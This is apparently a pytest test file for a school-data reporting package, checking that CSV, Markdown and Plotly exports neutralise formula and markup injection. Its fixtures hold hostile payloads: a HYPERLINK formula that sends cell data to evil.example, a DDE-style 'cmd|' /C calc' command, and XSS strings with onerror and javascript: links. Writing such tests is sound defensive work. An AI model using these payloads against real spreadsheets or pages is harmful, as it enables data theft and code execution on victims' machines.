"""Exports that are data, not code (sezp_roadmap/safe_export.py, reporting/figures.py).

A school name, a survey topic or an SQR domain can hold a spreadsheet formula or
markup. The priority-levers CSV neutralises every text cell a spreadsheet would
run; the Markdown export shows such values as text; Plotly labels are escaped.
"""

from __future__ import annotations

import csv
import datetime as dt
import io
from decimal import Decimal
from types import SimpleNamespace

import pytest
from markdown_it import MarkdownIt

from sezp_roadmap.levers import Finding, Lever, LeverEvidence
from sezp_roadmap.reporting import figures
from sezp_roadmap.reporting.formatting import wrapped
from sezp_roadmap.reporting.priority_levers import export_csv, export_markdown, finding_sentence
from sezp_roadmap.safe_export import csv_cell, markdown_text, safe_writer

FORMULA_NAME = '=HYPERLINK("http://evil.example/?"&A1,"Click")'
MARKUP_NAME = "<img src=x onerror=alert(1)> [click](javascript:alert(1)) **Bold**"
TOPIC = "+SUM(1+1)"
DOMAIN = "@SUM(1+1)*cmd|' /C calc'!A0"


# --- CSV cells --------------------------------------------------------------------------------------


@pytest.mark.parametrize(
    ("value", "written"),
    [
        ("=1+1", "'=1+1"),
        ("+SUM(A1)", "'+SUM(A1)"),
        ("-2+3", "'-2+3"),
        ("@SUM(A1)", "'@SUM(A1)"),
        ("\t=1+1", "'\t=1+1"),
        ("\r=1+1", "'\r=1+1"),
        ("-", "'-"),
        ("-x", "'-x"),
        # Plain numbers stay numbers, negative ones too.
        ("-3", "-3"),
        ("-2.5", "-2.5"),
        ("+4", "+4"),
        ("-.5", "-.5"),
        ("1e-3", "1e-3"),
        ("12", "12"),
        # Ordinary text, and text with a formula character later on, is unchanged.
        ("Alpha Middle", "Alpha Middle"),
        ("Alpha = Beta", "Alpha = Beta"),
        ("", ""),
    ],
)
def test_a_text_cell_that_starts_a_formula_gets_a_leading_quote(value, written):
    assert csv_cell(value) == written


@pytest.mark.parametrize("value", [-3, -2.5, Decimal("-0.5"), 0, 16, None, True])
def test_a_number_or_an_empty_cell_is_left_as_it_is(value):
    assert csv_cell(value) is value


def test_the_safe_writer_quotes_as_csv_does_and_neutralises_every_cell():
    out = io.StringIO()
    writer = safe_writer(out, lineterminator="\n")
    writer.writerow(["id", "name", "value"])
    writer.writerows([["A", FORMULA_NAME, -3], ["B", "Beta, the school", -2.5]])
    rows = list(csv.reader(io.StringIO(out.getvalue())))
    assert rows == [["id", "name", "value"], ["A", "'" + FORMULA_NAME, "-3"], ["B", "Beta, the school", "-2.5"]]


# --- Markdown text ----------------------------------------------------------------------------------


def _rendered(markdown: str) -> str:
    # CommonMark passes raw HTML through, as most viewers and wikis do.
    return MarkdownIt("commonmark").render(markdown)


def test_markdown_text_shows_markup_as_text():
    html = _rendered(f"# Priority levers: {markdown_text(MARKUP_NAME)}\n")
    assert "<img" not in html and "<a " not in html and "<strong>" not in html
    # The reader sees the name exactly as written.
    assert (
        html == "<h1>Priority levers: &lt;img src=x onerror=alert(1)&gt; [click](javascript:alert(1)) **Bold**</h1>\n"
    )


@pytest.mark.parametrize(
    "value",
    ["1. first", "- item", "+ item", "# heading", "> quote", "`code`", "| a | b |", "___", "a\n# heading", "&lt;b&gt;"],
)
def test_markdown_text_starts_no_block_and_no_inline_markup(value):
    html = _rendered(f"- {markdown_text(value)}\n")
    assert html.count("<li>") == 1
    for tag in ("<ol", "<h1", "<blockquote", "<code", "<table", "<hr", "<em", "<strong", "<b>"):
        assert tag not in html


@pytest.mark.parametrize(
    "value", ["Out-of-school suspension (OSS)", "Smith & Wesson Academy", "St. Mary's, grades 6-8"]
)
def test_markdown_text_leaves_ordinary_punctuation_as_it_is(value):
    # The export is pasted into a form as text: only what could be markup is escaped.
    assert markdown_text(value) == value


# --- the priority-levers exports --------------------------------------------------------------------


def _ranking() -> list[LeverEvidence]:
    family = Finding(
        kind="worse_than_zone",
        metric="family_favorable:x",
        subgroup="all",
        label=TOPIC,
        unit="percent",
        population="respondents",
        n=40,
        value=50.0,
        reference=62.0,
        difference=12.0,
    )
    sqr = Finding(
        kind="low_sqr_rating",
        metric="sqr:x",
        subgroup="all",
        label=DOMAIN,
        unit="rating",
        population="indicators",
        n=None,
        value=1.5,
    )
    lever = Lever("family", "Family partnership", "Working with families.", ("family_favorable*", "sqr:*"))
    return [LeverEvidence(lever, 1, findings=[family, sqr], metrics_with_data=2)]


def _period() -> SimpleNamespace:
    return SimpleNamespace(school_year=2026, period="mid_year", period_row={"data_through": dt.date(2025, 12, 19)})


def test_the_csv_export_neutralises_names_topics_and_domains():
    text = export_csv({"school_id": "A", "school_name": FORMULA_NAME}, _period(), _ranking())
    header, *rows = list(csv.reader(io.StringIO(text)))
    assert len(rows) == 2
    cells = [dict(zip(header, row)) for row in rows]
    assert {c["school_name"] for c in cells} == {"'" + FORMULA_NAME}
    assert cells[0]["finding"] == "'" + finding_sentence(_ranking()[0].findings[0], "mid_year")
    assert cells[1]["finding"] == "'" + finding_sentence(_ranking()[0].findings[1], "mid_year")
    # No cell a spreadsheet would run is left, and the numbers are numbers.
    assert not any(cell.startswith(("=", "+", "-", "@", "\t", "\r")) for row in rows for cell in row)
    assert (cells[0]["rank"], cells[0]["score"]) == ("1", "5")


def test_the_markdown_export_shows_a_name_and_a_topic_as_text():
    text = export_markdown({"school_id": "A", "school_name": MARKUP_NAME}, _period(), _ranking())
    assert text.splitlines()[0] == f"# Priority levers: {markdown_text(MARKUP_NAME)}"
    assert f"- {markdown_text(TOPIC)}: 50.0%, 12.0 points worse than the zone (62.0%) (40 respondents)." in text
    html = _rendered(text)
    assert "<img" not in html and "<a " not in html
    assert "&lt;img src=x onerror=alert(1)&gt; [click](javascript:alert(1)) **Bold**" in html
    assert "+SUM(1+1): 50.0%" in html


# --- Plotly labels ----------------------------------------------------------------------------------


def test_plotly_labels_names_and_titles_are_escaped():
    spec = figures.subgroup_bars(
        [MARKUP_NAME], [50.0], all_value=40.0, title=MARKUP_NAME, unit="percent", axis_title=MARKUP_NAME
    )
    escaped = "&lt;img src=x onerror=alert(1)&gt; [click](javascript:alert(1)) **Bold**"
    assert spec["data"][0]["y"] == [escaped]
    assert spec["layout"]["xaxis"]["title"]["text"] == escaped
    bars = figures.grouped_bars(
        [wrapped("<b>Safety</b> and a long topic name from the survey")],
        [("<i>This school</i>", [1.0], "school")],
        title="t",
        unit="percent",
        axis_title="a",
    )
    # wrapped() escapes each line and keeps its own line breaks.
    assert bars["data"][0]["x"] == ["&lt;b&gt;Safety&lt;/b&gt; and a long<br>topic name from the<br>survey"]
    assert bars["data"][0]["name"] == "&lt;i&gt;This school&lt;/i&gt;"
    assert "<i>" not in bars["data"][0]["hovertemplate"]
    funnel = figures.funnel_plot(
        [MARKUP_NAME, "Beta"], [30.0, 40.0], [100, 120], zone_value=35.0, title="t", axis_title="a"
    )
    assert funnel["data"][-1]["text"] == [escaped, "Beta"]
    levels = figures.stacked_levels([DOMAIN], [("<u>Level</u>", False)], [[100.0]], title="t")
    assert levels["data"][0]["name"] == "&lt;u&gt;Level&lt;/u&gt;"
    assert levels["data"][0]["y"] == ["@SUM(1+1)*cmd|&#39; /C calc&#39;!A0"]


def test_a_chart_id_is_escaped_for_the_attribute_and_for_the_script():
    html = str(figures.figure_html({"data": [], "layout": {}}, 'a"</script><b>', "summary"))
    assert '<div id="a&#34;&lt;/script&gt;&lt;b&gt;"' in html
    assert 'Plotly.newPlot("a\\"\\u003c/script\\u003e\\u003cb\\u003e",' in html
    assert html.count("</script>") == 1
